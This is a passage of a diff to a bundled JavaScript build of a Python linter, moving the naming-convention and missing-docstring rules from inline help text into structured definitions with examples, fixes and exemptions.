+    if item.fragile:
+        ...
+    elif item.heavy:
+        ...
+    if item.oversized:
+        ...`,
+        notReported: ['Functions at or below the threshold, lambdas, and module or class bodies outside functions.'],
+        more: `A nested function is reported on its own when it is over the threshold, and its decision points
+also count for the function that contains it, as Ruff counts them.`,
     },
     option: 'max-complexity',
     defaultThreshold: 10,
@@ -7874,68 +8546,13 @@ exports.styleOf = styleOf;
  * local, so this rule stays silent on camelCase names; in practice it reports snake_case names in
  * modules whose dominant style is camelCase. A name never gets two notes for one problem.
  */
-const naming_1 = __nccwpck_require__(1681);
+const naming_conventions_1 = __nccwpck_require__(8208);
 const scopes_1 = __nccwpck_require__(7985);
-const HELP = `# A name breaks the naming style the module uses
-
-A module that names most of its functions (or methods, parameters, local variables) in camelCase
-and a few in snake_case, or the other way round, makes readers and callers guess the spelling of
-every name. This rule finds the dominant style of each kind of name in the module and points at
-the names that break it.
-
-## Example
-
-\`\`\`python
-def loadConfig(path): ...
-def parseArgs(argv): ...
-def writeOutput(data): ...
-def save_state(state): ...
-\`\`\`
-
-\`save_state\` is reported: 3 of the 4 function names in the module are camelCase.
-
-## How to fix
-
-Rename the odd names to the module's dominant style, or, better, move the module to PEP 8's
-snake_case as a whole.
-
-## How it decides
-
-Function names, method names, parameter names and local variable names are counted separately.
-Only names that show a style count: \`load_config\` is snake_case, \`loadConfig\` is camelCase;
-one-word lowercase names such as \`path\` fit both and are not counted, nor are dunder names.
-The style with more distinct names dominates; a tie has no dominant style and gives no note.
-
-## How it combines with the PEP 8 naming rules
-
-\`invalid-function-name\`, \`invalid-argument-name\` and \`invalid-variable-name\` already report
-every camelCase function, method, parameter and local variable. So that no name gets two notes
-for one problem, this rule is silent on camelCase names: it reports snake_case names in modules
-(or kinds of names) whose dominant style is camelCase. A module written consistently in camelCase
-gets no note from this rule.
-
-## What is not reported
-
-- Modules, or kinds of names, using one style only; ties.
-- camelCase names (see above), dunder names, one-word names.`;
-const meta = {
-    id: 'inconsistent-naming',
-    name: 'InconsistentNaming',
-    kind: 'maintainability',
-    shortDescription: 'A name breaks the naming style the rest of the module uses',
-    fullDescription: 'A module mixes snake_case and camelCase for the same kind of name (functions, methods, ' +
-        'parameters, local variables). Each name in the minority style is reported, with the style ' +
-        'that dominates and by how much, so the module can be made consistent.',
-    help: HELP,
-    category: 'naming',
-    aliases: [],
-    precision: 'high',
-    problemSeverity: 'recommendation',
-};
+const define_1 = __nccwpck_require__(5544);
 const SNAKE = /^_*[a-z][a-z0-9]*(_[a-z0-9]+)+_?$/;
 const CAMEL = /^_*[a-z][a-z0-9]*[A-Z][A-Za-z0-9]*$/;
 function styleOf(name) {
-    if ((0, naming_1.isDunder)(name))
+    if ((0, naming_conventions_1.isDunder)(name))
         return undefined;
     if (SNAKE.test(name))
         return 'snake_case';
@@ -7965,13 +8582,58 @@ const PLURAL = {
     parameter: 'parameter names',
     'local variable': 'local variable names',
 };
-exports.inconsistentNaming = {
-    meta,
+exports.inconsistentNaming = (0, define_1.defineRule)({
+    meta: {
+        id: 'inconsistent-naming',
+        name: 'InconsistentNaming',
+        kind: 'maintainability',
+        shortDescription: 'A name breaks the naming style the rest of the module uses',
+        fullDescription: 'A module mixes snake_case and camelCase for the same kind of name (functions, methods, ' +
+            'parameters, local variables). Each name in the minority style is reported, with the style ' +
+            'that dominates and by how much, so the module can be made consistent.',
+        category: 'naming',
+        aliases: [],
+        precision: 'high',
+        problemSeverity: 'recommendation',
+    },
+    docs: {
+        title: 'A name breaks the naming style the module uses',
+        why: `A module that names most of its functions (or methods, parameters, local variables) in camelCase
+and a few in snake_case, or the other way round, makes readers and callers guess the spelling of
+every name. This rule finds the dominant style of each kind of name in the module and points at
+the names that break it.`,
+        example: `def loadConfig(path): ...
+def parseArgs(argv): ...
+def writeOutput(data): ...
+def save_state(state): ...`,
+        exampleNote: '`save_state` is reported: 3 of the 4 function names in the module are camelCase.',
+        fix: `Rename the odd names to the module's dominant style, or, better, move the module to PEP 8's
+snake_case as a whole.`,
+        fixed: `def load_config(path): ...
+def parse_args(argv): ...
+def write_output(data): ...
+def save_state(state): ...`,
+        notReported: ['Modules, or kinds of names, using one style only; ties.', 'camelCase names (see below), dunder names, one-word names.'],
+        more: `## How it decides
+
+Function names, method names, parameter names and local variable names are counted separately.
+Only names that show a style count: \`load_config\` is snake_case, \`loadConfig\` is camelCase;
+one-word lowercase names such as \`path\` fit both and are not counted, nor are dunder names.
+The style with more distinct names dominates; a tie has no dominant style and gives no note.
+
+## How it combines with the PEP 8 naming rules
+
+\`invalid-function-name\`, \`invalid-argument-name\` and \`invalid-variable-name\` already report
+every camelCase function, method, parameter and local variable. So that no name gets two notes
+for one problem, this rule is silent on camelCase names: it reports snake_case names in modules
+(or kinds of names) whose dominant style is camelCase. A module written consistently in camelCase
+gets no note from this rule.`,
+    },
     uses: [scopes_1.scopes],
     create(context) {
         return {
             end() {
-                const model = context.analysis(scopes_1.scopes.name);
+                const model = context.analysis(scopes_1.scopes);
                 const byKind = new Map();
                 for (const binding of model.bindings) {
                     const kind = kindOf(binding);
@@ -7992,44 +8654,307 @@ exports.inconsistentNaming = {
                         continue;
                     const total = snake + camel;
                     for (const binding of bindings) {
-                        if (styleOf(binding.name) !== 'snake_case' || !(0, naming_1.isLowercase)(binding.name))
+                        if (styleOf(binding.name) !== 'snake_case' || !(0, naming_conventions_1.isLowercase)(binding.name))
                             continue;
-                        context.report(meta, binding.node, `\`${binding.name}\` is snake_case, but this module names its ${PLURAL[kind]} in camelCase (${camel} of ${total})`);
+                        context.report(binding.node, `\`${binding.name}\` is snake_case, but this module names its ${PLURAL[kind]} in camelCase (${camel} of ${total})`);
                     }
                 }
             },
         };
     },
-};
+});
 
 
 /***/ }),
 
-/***/ 7225:
+/***/ 1734:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.MAINTAINABILITY_RULES = void 0;
-const cognitive_complexity_1 = __nccwpck_require__(4466);
-const cyclomatic_complexity_1 = __nccwpck_require__(1480);
-const missing_class_docstring_1 = __nccwpck_require__(8878);
-const missing_function_docstring_1 = __nccwpck_require__(2428);
-const missing_module_docstring_1 = __nccwpck_require__(2744);
-const too_many_arguments_1 = __nccwpck_require__(6378);
-const too_many_branches_1 = __nccwpck_require__(2412);
-const too_many_nested_blocks_1 = __nccwpck_require__(9502);
-const too_many_statements_1 = __nccwpck_require__(6762);
-const naming_1 = __nccwpck_require__(1681);
-const inconsistent_naming_1 = __nccwpck_require__(8423);
-const unused_import_1 = __nccwpck_require__(9673);
-const unused_suppression_1 = __nccwpck_require__(2477);
-const unused_variable_1 = __nccwpck_require__(4800);
-/** Every maintainability rule. Add a rule here when its module is written. */
-exports.MAINTAINABILITY_RULES = [unused_import_1.unusedImport, unused_suppression_1.unusedSuppression, unused_variable_1.unusedVariable,
-    naming_1.invalidClassName, naming_1.invalidFunctionName, naming_1.invalidArgumentName, naming_1.invalidVariableName, inconsistent_naming_1.inconsistentNaming,
-    cyclomatic_complexity_1.cyclomaticComplexity, cognitive_complexity_1.cognitiveComplexity, too_many_arguments_1.tooManyArguments, too_many_branches_1.tooManyBranches, too_many_statements_1.tooManyStatements, too_many_nested_blocks_1.tooManyNestedBlocks,
-    missing_module_docstring_1.missingModuleDocstring, missing_class_docstring_1.missingClassDocstring, missing_function_docstring_1.missingFunctionDocstring];
+exports.invalidArgumentName = void 0;
+/**
+ * pep8-naming N803: parameters of functions and lambdas are lowercase; not checked for
+ * `@override` methods (the base class chose the names), nor for names matching `ignore-names`.
+ */
+const binding_rule_1 = __nccwpck_require__(7663);
+const naming_conventions_1 = __nccwpck_require__(8208);
+exports.invalidArgumentName = (0, binding_rule_1.bindingRule)({
+    meta: (0, naming_conventions_1.namingMeta)({
+        id: 'invalid-argument-name',
+        name: 'InvalidArgumentName',
+        shortDescription: 'A parameter name is not lowercase',
+        fullDescription: 'PEP 8 names function parameters in lowercase with underscores. Parameter names are part of a ' +
+            'function\'s interface (callers pass them as keywords), so a camelCase parameter spreads the ' +
+            'inconsistency to every call site.',
+        aliases: ['N803', 'C0103'],
+    }),
+    docs: (0, naming_conventions_1.namingDocs)({
+        title: 'A parameter name is not lowercase',
+        why: `Parameters are part of the interface: callers write \`fetch(url, maxRetries=3)\`. PEP 8 spells
+them in lowercase with underscores, like other variables.`,
+        example: `def fetch(url, maxRetries=3):
+    ...`,
+        exampleNote: '`maxRetries` is reported.',
+        fix: `Rename the parameter (\`max_retries\`) and its keyword uses; for public API, accept the old keyword
+for a while.`,
+        fixed: `def fetch(url, max_retries=3):
+    ...`,
+        notReported: ['Parameters of methods decorated with `@override`: the base class chose the names.', 'Names matching `ignore-names`.'],
+    }),
+    judge: (context) => (b) => {
+        if (b.kind !== 'parameter' || (0, naming_conventions_1.isLowercase)(b.name) || (0, naming_conventions_1.ignoredName)(context, b.name))
+            return undefined;
+        if (b.scope.kind === 'function' && (0, naming_conventions_1.isOverride)(b.scope.node))
+            return undefined;
+        return `Argument name \`${b.name}\` should be lowercase`;
+    },
+});
+
+
+/***/ }),
+
+/***/ 8643:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.invalidClassName = void 0;
+/**
+ * pep8-naming N801: without its leading underscores, a class name starts with an uppercase letter
+ * and has no underscore. Not reported: names matching `ignore-names`.
+ */
+const binding_rule_1 = __nccwpck_require__(7663);
+const naming_conventions_1 = __nccwpck_require__(8208);
+exports.invalidClassName = (0, binding_rule_1.bindingRule)({
+    meta: (0, naming_conventions_1.namingMeta)({
+        id: 'invalid-class-name',
+        name: 'InvalidClassName',
+        shortDescription: 'A class name does not use the CapWords convention',
+        fullDescription: 'PEP 8 names classes in CapWords (`HttpClient`, `ParseError`): a class named `http_client` or ' +
+            '`Http_Client` reads like a function or variable, and callers cannot tell they are ' +
+            'instantiating a class.',
+        aliases: ['N801', 'C0103'],
+    }),
+    docs: (0, naming_conventions_1.namingDocs)({
+        title: 'A class name does not use CapWords',
+        why: `PEP 8 spells class names in CapWords, so that \`Parser(text)\` visibly creates an object and
+\`parse(text)\` visibly calls a function. A lowercase or underscored class name hides that.`,
+        example: `class http_client:
+    ...
+
+class Http_Client:
+    ...`,
+        exampleNote: 'Both are reported.',
+        fix: `Rename the class: \`class HttpClient:\`. Keep an alias for old callers if it is public API
+(\`http_client = HttpClient\`).`,
+        fixed: `class HttpClient:
+    ...
+
+http_client = HttpClient  # the old name, for existing callers`,
+        notReported: ['Leading underscores: `class _Helper:` is fine (the rest must be CapWords).', 'Names matching `ignore-names`.'],
+    }),
+    judge: (context) => (b) => {
+        if (b.kind !== 'class' || (0, naming_conventions_1.isCapWords)(b.name) || (0, naming_conventions_1.ignoredName)(context, b.name))
+            return undefined;
+        return `Class name \`${b.name}\` should use CapWords`;
+    },
+});
+
+
+/***/ }),
+
+/***/ 2191:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.invalidFunctionName = void 0;
+/**
+ * pep8-naming N802: function and method names are lowercase. Exempt: dunder names, `@override`
+ * and `@overload` functions, `visit_*` methods of `ast.NodeVisitor` / `ast.NodeTransformer`
+ * subclasses, `do_*` methods of `BaseHTTPRequestHandler` subclasses (subclasses of subclasses in
+ * the same module too), and the names of the `ignore-names` option (by default the unittest hooks
+ * `setUp`, `tearDown`, ...).
+ */
+const binding_rule_1 = __nccwpck_require__(7663);
+const naming_conventions_1 = __nccwpck_require__(8208);
+exports.invalidFunctionName = (0, binding_rule_1.bindingRule)({
+    meta: (0, naming_conventions_1.namingMeta)({
+        id: 'invalid-function-name',
+        name: 'InvalidFunctionName',
+        shortDescription: 'A function or method name is not lowercase',
+        fullDescription: 'PEP 8 names functions and methods in lowercase with underscores (`load_config`). A camelCase or ' +
+            'CapWords function name reads like a class and clashes with the rest of the Python ecosystem.',
+        aliases: ['N802', 'C0103'],
+    }),
+    docs: (0, naming_conventions_1.namingDocs)({
+        title: 'A function name is not lowercase',
+        why: `PEP 8 spells function and method names in lowercase, words separated by underscores. A
+\`CapWords\` function looks like a class at the call site, and camelCase names mix two styles in
+one code base.`,
+        example: `def loadConfig(path):
+    ...`,
+        exampleNote: '`loadConfig` is reported.',
+        fix: 'Rename it, `def load_config(path):`, and update the callers.',
+        fixed: `def load_config(path):
+    ...`,
+        notReported: [
+            'Dunder methods (`__init__`, `__getItem__` is not a real dunder but is still exempt).',
+            'Methods decorated with `@override` or `@overload`: the name is chosen elsewhere.',
+            `\`visit_*\` methods of \`ast.NodeVisitor\` and \`ast.NodeTransformer\` subclasses
+  (\`visit_FunctionDef\`): the node class names are part of the name. Likewise \`do_GET\`,
+  \`do_POST\`, ... of \`http.server.BaseHTTPRequestHandler\` subclasses. Subclasses of subclasses
+  defined in the same module count too.`,
+            'Names matching `ignore-names`, by default the `unittest` hooks (`setUp`, `tearDownClass`, ...).',
+        ],
+    }),
+    judge: (context, model) => (b) => {
+        if (b.kind !== 'function' || (0, naming_conventions_1.isLowercase)(b.name) || (0, naming_conventions_1.isDunder)(b.name))
+            return undefined;
+        if ((0, naming_conventions_1.ignoredName)(context, b.name) || (0, naming_conventions_1.isOverride)(b.owner))
+            return undefined;
+        if (b.scope.kind === 'class' && b.name.startsWith('visit_') && (0, naming_conventions_1.inherits)(model, b.scope, /\b(NodeVisitor|NodeTransformer)\b/))
+            return undefined;
+        if (b.scope.kind === 'class' && b.name.startsWith('do_') && (0, naming_conventions_1.inherits)(model, b.scope, /HTTPRequestHandler\b/))
+            return undefined;
+        return `Function name \`${b.name}\` should be lowercase`;
+    },
+});
+
+
+/***/ }),
+
+/***/ 7479:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.invalidVariableName = void 0;
+const scopes_1 = __nccwpck_require__(7985);
+const define_1 = __nccwpck_require__(5544);
+const naming_conventions_1 = __nccwpck_require__(8208);
+const VARIABLE_KINDS = new Set(['assignment', 'augmented', 'for', 'with', 'walrus']);
+const TYPE_FACTORIES = /(^|\.)(TypeVar|NewType|namedtuple|NamedTuple|TypedDict|ParamSpec|TypeVarTuple)$/;
+/** `X = TypeVar("X")`, `X: TypeAlias = ...`: type definitions, named like classes. */
+function definesType(statement) {
+    if (statement.type !== 'assignment')
+        return false;
+    const type = statement.childForFieldName('type');
+    if (type && /(^|\.)TypeAlias$/.test(type.text.trim()))
+        return true;
+    const right = statement.childForFieldName('right');
+    if (right?.type !== 'call')
+        return false;
+    const callee = right.childForFieldName('function');
+    return !!callee && TYPE_FACTORIES.test(callee.text.replace(/\s+/g, ''));
+}
+function variableMessage(candidate, context) {
+    const { name, scope } = candidate;
+    if (candidate.declared || (0, naming_conventions_1.ignoredName)(context, name))
+        return undefined;
+    switch (scope.kind) {
+        case 'function':
+        case 'lambda':
+            if ((0, naming_conventions_1.isLowercase)(name) || definesType(candidate.statement))
+                return undefined;
+            return `Variable \`${name}\` in a function should be lowercase`;
+        case 'class':
+            if (!(0, naming_conventions_1.isMixedCase)(name) || (0, naming_conventions_1.isDunder)(name) || /\bTypedDict\b/.test((0, naming_conventions_1.classBases)(scope)))
+                return undefined;
+            return `Class attribute \`${name}\` should not be mixedCase`;
+        case 'module':
+            if (!(0, naming_conventions_1.isMixedCase)(name))
+                return undefined;
+            return `Module variable \`${name}\` should not be mixedCase`;
+        default:
+            return undefined;
+    }
+}
+exports.invalidVariableName = (0, define_1.defineRule)({
+    meta: (0, naming_conventions_1.namingMeta)({
+        id: 'invalid-variable-name',
+        name: 'InvalidVariableName',
+        shortDescription: 'A variable name does not follow PEP 8',
+        fullDescription: 'PEP 8 names local variables in lowercase, and class attributes and module variables either in ' +
+            'lowercase or in UPPER_CASE (constants), never in mixedCase. Names that break the convention ' +
+            'read like classes or constants and make the code harder to scan.',
+        aliases: ['N806', 'N815', 'N816', 'C0103'],
+    }),
+    docs: (0, naming_conventions_1.namingDocs)({
+        title: 'A variable name does not follow PEP 8',
+        why: `Three checks, as pep8-naming has them:
+
+- A variable assigned in a function is lowercase (\`total\`, not \`Total\` or \`totalCount\`).
+- A class attribute is not mixedCase (\`max_size\` or \`MAX_SIZE\`, not \`maxSize\`).
+- A module variable is not mixedCase (\`default_timeout\` or \`DEFAULT_TIMEOUT\`, not
+  \`defaultTimeout\`).`,
+        example: `defaultTimeout = 10
+
+class Client:
+    maxSize = 5
+
+    def send(self, data):
+        Payload = encode(data)
+        return self.post(Payload)`,
+        exampleNote: '`defaultTimeout`, `maxSize` and `Payload` are reported.',
+        fix: `Rename the variable: \`default_timeout\` (or \`DEFAULT_TIMEOUT\` for a constant), \`max_size\`,
+\`payload\`.`,
+        fixed: `DEFAULT_TIMEOUT = 10
+
+class Client:
+    max_size = 5
+
+    def send(self, data):
+        payload = encode(data)
+        return self.post(payload)`,
+        notReported: [
+            `In functions: names declared \`global\` or \`nonlocal\` (they belong to another scope), type
+  definitions (\`T = TypeVar("T")\`, \`UserId = NewType(...)\`, \`Point = namedtuple(...)\`,
+  \`NamedTuple\`, \`TypedDict\`, \`ParamSpec\`, \`TypeVarTuple\` calls, \`X: TypeAlias = ...\`),
+  imports, \`except ... as\` names and comprehension variables.`,
+            'Class attributes of `TypedDict` classes (the keys are data), dunder names.',
+            'Names matching `ignore-names`.',
+        ],
+        more: `## What counts
+
+Assignments of every form (tuple unpacking, \`for\` and \`with\` targets, walrus, augmented and
+annotated assignments, annotation-only declarations such as \`fooBar: int\`). Each assignment of a
+badly named variable is reported.`,
+    }),
+    uses: [scopes_1.scopes],
+    create(context) {
+        const declarations = [];
+        return {
+            // `fooBar: int` binds nothing in the scope model, but pep8-naming judges the name.
+            assignment(node) {
+                if (!node.childForFieldName('right') && node.childForFieldName('type') && node.childForFieldName('left')?.type === 'identifier') {
+                    declarations.push(node);
+                }
+            },
+            end() {
+                const model = context.analysis(scopes_1.scopes);
+                const candidates = [];
+                for (const b of model.bindings) {
+                    if (!VARIABLE_KINDS.has(b.kind) || b.scope.kind === 'comprehension')
+                        continue;
+                    candidates.push({ name: b.name, node: b.node, scope: b.scope, statement: b.owner, declared: b.declared !== undefined });
+                }
+                for (const statement of declarations) {
+                    const left = statement.childForFieldName('left');
+                    const scope = (0, scopes_1.scopeAt)(model, left.startIndex);
+                    const declared = scope.globals.has(left.text) || scope.nonlocals.has(left.text);
+                    candidates.push({ name: left.text, node: left, scope, statement, declared });
+                }
+                for (const candidate of candidates) {
+                    const message = variableMessage(candidate, context);
+                    if (message)
+                        context.report(candidate.node, message);
+                }
+            },
+        };
+    },
+});
 
 
 /***/ }),
@@ -8047,62 +8972,51 @@ exports.missingClassDocstring = void 0;
  */
 const docstrings_1 = __nccwpck_require__(3520);
 const scopes_1 = __nccwpck_require__(7985);
-const HELP = `# A public class has no docstring
-
-A public class is part of a module's interface: its docstring tells users what an instance
-represents and how to use it, and it is what \`help()\`, IDEs and documentation generators show.
-
-## Example
-
-\`\`\`python
-class RetryPolicy:
+const define_1 = __nccwpck_require__(5544);
+exports.missingClassDocstring = (0, define_1.defineRule)({
+    meta: {
+        id: 'missing-class-docstring',
+        name: 'MissingClassDocstring',
+        kind: 'maintainability',
+        shortDescription: 'A public class has no docstring',
+        fullDescription: 'A public class (module-level, or nested in a public class) has no docstring, so its users learn ' +
+            'what it represents only by reading its code. Private classes, classes defined in functions and ' +
+            'classes left out of __all__ are not reported.',
+        category: 'documentation',
+        aliases: ['D101', 'D106', 'C0115'],
+        precision: 'very-high',
+        problemSeverity: 'recommendation',
+        // A syntax error can hide the first statement or misplace a definition.
+        needsCleanParse: true,
+    },
+    docs: {
+        title: 'A public class has no docstring',
+        why: `A public class is part of a module's interface: its docstring tells users what an instance
+represents and how to use it, and it is what \`help()\`, IDEs and documentation generators show.`,
+        example: `class RetryPolicy:
     def __init__(self, attempts, delay):
-        ...
-\`\`\`
-
-## How to fix
-
-Make the first statement of the class body a string literal:
-
-\`\`\`python
-class RetryPolicy:
+        ...`,
+        fix: 'Make the first statement of the class body a string literal:',
+        fixed: `class RetryPolicy:
     """How many times to retry a failed request, and how long to wait in between."""
-\`\`\`
 
-## What is not reported
-
-Classes that are not public, as pydocstyle and Ruff define it:
-
-- names starting with \`_\`, and classes nested in such a class;
-- classes defined inside a function;
-- module-level classes not listed in \`__all__\` when the module assigns \`__all__\`;
-- every class of a private module (\`_x.py\`, or inside a \`_x/\` folder).
-
-A class nested in a public class (pydocstyle D106) is reported like a module-level one. Files with
-syntax errors are not checked.`;
-const meta = {
-    id: 'missing-class-docstring',
-    name: 'MissingClassDocstring',
-    kind: 'maintainability',
-    shortDescription: 'A public class has no docstring',
-    fullDescription: 'A public class (module-level, or nested in a public class) has no docstring, so its users learn ' +
-        'what it represents only by reading its code. Private classes, classes defined in functions and ' +
-        'classes left out of __all__ are not reported.',
-    help: HELP,
-    category: 'documentation',
-    aliases: ['D101', 'D106', 'C0115'],
-    precision: 'very-high',
-    problemSeverity: 'recommendation',
-    // A syntax error can hide the first statement or misplace a definition.
-    needsCleanParse: true,
-};
-exports.missingClassDocstring = {
-    meta,
+    def __init__(self, attempts, delay):
+        ...`,
+        notReported: [
+            `Classes that are not public, as pydocstyle and Ruff define it:
+  - names starting with \`_\`, and classes nested in such a class;
+  - classes defined inside a function;
+  - module-level classes not listed in \`__all__\` when the module assigns \`__all__\`;
+  - every class of a private module (\`_x.py\`, or inside a \`_x/\` folder).`,
+            'Files with syntax errors are not checked.',
+        ],
+        more: 'A class nested in a public class (pydocstyle D106) is reported like a module-level one.',
+    },
     uses: [scopes_1.scopes],
     create(context) {
         return {
             end() {
-                const model = context.analysis(scopes_1.scopes.name);
+                const model = context.analysis(scopes_1.scopes);
                 const visibility = (0, docstrings_1.moduleVisibility)(model, context.path);
                 for (const scope of model.scopes) {
                     if (scope.kind !== 'class' || !(0, docstrings_1.isPublicDefinition)(scope, visibility))
@@ -8116,12 +9030,12 @@ exports.missingClassDocstring = {
                     const message = nested
                         ? `Public nested class \`${(0, docstrings_1.definitionName)(scope.parent)}.${nameNode.text}\` has no docstring`
                         : `Public class \`${nameNode.text}\` has no docstring`;
-                    context.report(meta, nameNode, message);
+                    context.report(nameNode, message);
                 }
             },
         };
     },
-};
+});
 
 
 /***/ }),
@@ -8139,28 +9053,67 @@ exports.missingFunctionDocstring = void 0;
  */
 const docstrings_1 = __nccwpck_require__(3520);
 const scopes_1 = __nccwpck_require__(7985);
-const HELP = `# A public function has no docstring
-
-A public function or method is called by code its author does not see. Its docstring says what it
+const define_1 = __nccwpck_require__(5544);
+/**
+ * pydocstyle's magic methods: dunder names, except `__init__` (its own check, D107) and `__new__`
+ * and `__call__`, which take arbitrary arguments and are documented like ordinary methods (D102).
+ */
+const isMagic = (name) => name.length > 4 && name.startsWith('__') && name.endsWith('__') && name !== '__init__' && name !== '__new__' && name !== '__call__';
+exports.missingFunctionDocstring = (0, define_1.defineRule)({
+    meta: {
+        id: 'missing-function-docstring',
+        name: 'MissingFunctionDocstring',
+        kind: 'maintainability',
+        shortDescription: 'A public function or method has no docstring',
+        fullDescription: 'A public function or method has no docstring, so its callers learn what it does, expects and ' +
+            'returns only by reading its code. Private and nested functions, methods of private classes, ' +
+            'overload stubs, overrides and property setters are not reported; magic methods and __init__ ' +
+            'only when enabled.',
+        category: 'documentation',
+        aliases: ['D102', 'D103', 'D105', 'D107', 'C0116'],
+        precision: 'very-high',
+        problemSeverity: 'recommendation',
+        // A syntax error can hide the first statement or misplace a definition.
+        needsCleanParse: true,
+        options: {
+            'include-magic-methods': {
+                type: 'boolean',
+                default: false,
+                description: 'Also report magic methods such as `__eq__` (pydocstyle D105).',
+            },
+            'include-init': {
+                type: 'boolean',
+                default: false,
+                description: 'Also report `__init__` methods (pydocstyle D107).',
+            },
+        },
+    },
+    docs: {
+        title: 'A public function has no docstring',
+        why: `A public function or method is called by code its author does not see. Its docstring says what it
 does, what it expects and what it returns or raises, and is what \`help()\`, IDEs (on hover) and
-documentation generators show.
-
-## Example
-
-\`\`\`python
-def parse_duration(text):
+documentation generators show.`,
+        example: `def parse_duration(text):
     number, unit = text[:-1], text[-1]
-    ...
-\`\`\`
-
-## How to fix
-
-Make the first statement of the body a string literal:
-
-\`\`\`python
-def parse_duration(text):
+    ...`,
+        fix: 'Make the first statement of the body a string literal:',
+        fixed: `def parse_duration(text):
     """Return the number of seconds in a duration such as "90s" or "5m"."""
-\`\`\`
+    number, unit = text[:-1], text[-1]
+    ...`,
+        notReported: [
+            `Functions that are not public, as pydocstyle and Ruff define it:
+  - names starting with \`_\` (module-level dunder functions such as \`__getattr__\` too);
+  - methods of a class that is not public (private name, defined in a function, left out of
+    \`__all__\`, nested in a private class);
+  - functions nested in functions;
+  - module-level functions not listed in \`__all__\` when the module assigns \`__all__\`;
+  - everything in a private module (\`_x.py\`, or inside a \`_x/\` folder);
+  - \`@overload\` stubs, \`@override\` methods (the base method documents them), and property
+    setters and deleters (\`@name.setter\`, \`@name.deleter\`: the getter documents the property).`,
+            'Files with syntax errors are not checked.',
+        ],
+        more: `An f-string or bytes literal is not a docstring, so functions starting with one are reported.
 
 ## Options
 
@@ -8168,66 +9121,15 @@ def parse_duration(text):
   \`__len__\` (pydocstyle D105). \`__new__\` and \`__call__\` are not magic methods here: like
   pydocstyle, they are reported as ordinary public methods, since what they accept varies.
 - \`include-init\` (default \`false\`): also report \`__init__\` methods (pydocstyle D107); many
-  projects document the constructor's parameters in the class docstring instead.
-
-## What is not reported
-
-Functions that are not public, as pydocstyle and Ruff define it:
-
-- names starting with \`_\` (module-level dunder functions such as \`__getattr__\` too);
-- methods of a class that is not public (private name, defined in a function, left out of
-  \`__all__\`, nested in a private class);
-- functions nested in functions;
-- module-level functions not listed in \`__all__\` when the module assigns \`__all__\`;
-- everything in a private module (\`_x.py\`, or inside a \`_x/\` folder);
-- \`@overload\` stubs, \`@override\` methods (the base method documents them), and property
-  setters and deleters (\`@name.setter\`, \`@name.deleter\`: the getter documents the property).
-
-An f-string or bytes literal is not a docstring, so functions starting with one are reported.
-Files with syntax errors are not checked.`;
-const meta = {
-    id: 'missing-function-docstring',
-    name: 'MissingFunctionDocstring',
-    kind: 'maintainability',
-    shortDescription: 'A public function or method has no docstring',
-    fullDescription: 'A public function or method has no docstring, so its callers learn what it does, expects and ' +
-        'returns only by reading its code. Private and nested functions, methods of private classes, ' +
-        'overload stubs, overrides and property setters are not reported; magic methods and __init__ ' +
-        'only when enabled.',
-    help: HELP,
-    category: 'documentation',
-    aliases: ['D102', 'D103', 'D105', 'D107', 'C0116'],
-    precision: 'very-high',
-    problemSeverity: 'recommendation',
-    // A syntax error can hide the first statement or misplace a definition.
-    needsCleanParse: true,
-    options: {
-        'include-magic-methods': {
-            type: 'boolean',
-            default: false,
-            description: 'Also report magic methods such as `__eq__` (pydocstyle D105).',
-        },
-        'include-init': {
-            type: 'boolean',
-            default: false,
-            description: 'Also report `__init__` methods (pydocstyle D107).',
-        },
+  projects document the constructor's parameters in the class docstring instead.`,
     },
-};
-/**
- * pydocstyle's magic methods: dunder names, except `__init__` (its own check, D107) and `__new__`
- * and `__call__`, which take arbitrary arguments and are documented like ordinary methods (D102).
- */
-const isMagic = (name) => name.length > 4 && name.startsWith('__') && name.endsWith('__') && name !== '__init__' && name !== '__new__' && name !== '__call__';
-exports.missingFunctionDocstring = {
-    meta,
     uses: [scopes_1.scopes],
     create(context) {
         return {
             end() {
-                const magic = context.option(meta, 'include-magic-methods');
-                const init = context.option(meta, 'include-init');
-                const model = context.analysis(scopes_1.scopes.name);
+                const magic = context.option('include-magic-methods');
+                const init = context.option('include-init');
+                const model = context.analysis(scopes_1.scopes);
                 const visibility = (0, docstrings_1.moduleVisibility)(model, context.path);
                 for (const scope of model.scopes) {
                     if (scope.kind !== 'function' || !(0, docstrings_1.isPublicDefinition)(scope, visibility))
@@ -8256,12 +9158,12 @@ exports.missingFunctionDocstring = {
                     }
                     else
                         message = `Public function \`${name}\` has no docstring`;
-                    context.report(meta, nameNode, message);
+                    context.report(nameNode, message);
                 }
             },
         };
     },
-};
+});
 
 
 /***/ }),
@@ -8279,57 +9181,49 @@ exports.missingModuleDocstring = void 0;
  * folder) are not reported; see src/analysis/docstrings.ts.
  */
 const docstrings_1 = __nccwpck_require__(3520);
-const HELP = `# A public module has no docstring
-
-The module docstring is what \`help(module)\`, IDEs and documentation generators show first: one
+const define_1 = __nccwpck_require__(5544);
+exports.missingModuleDocstring = (0, define_1.defineRule)({
+    meta: {
+        id: 'missing-module-docstring',
+        name: 'MissingModuleDocstring',
+        kind: 'maintainability',
+        shortDescription: 'A public module or package has no docstring',
+        fullDescription: 'A public module (or a package, through its __init__.py) does not start with a docstring, so ' +
+            'help(), IDEs and documentation tools have nothing to say about what it is for. Private modules ' +
+            '(names starting with an underscore) are not reported.',
+        category: 'documentation',
+        aliases: ['D100', 'D104', 'C0114'],
+        precision: 'very-high',
+        problemSeverity: 'recommendation',
+        // A syntax error can hide the first statement or misplace a definition.
+        needsCleanParse: true,
+    },
+    docs: {
+        title: 'A public module has no docstring',
+        why: `The module docstring is what \`help(module)\`, IDEs and documentation generators show first: one
 sentence saying what the module is for saves every reader from inferring it from the code. For a
-package, the docstring of its \`__init__.py\` describes the package.
+package, the docstring of its \`__init__.py\` describes the package.`,
+        example: `import json
 
-## Example
 
-\`\`\`python
+def load(path):
+    ...`,
+        fix: 'Start the file with a string literal (after comments and a shebang, before any code):',
+        fixed: `"""Read and write the application's settings files."""
+
 import json
 
 
 def load(path):
-    ...
-\`\`\`
-
-## How to fix
-
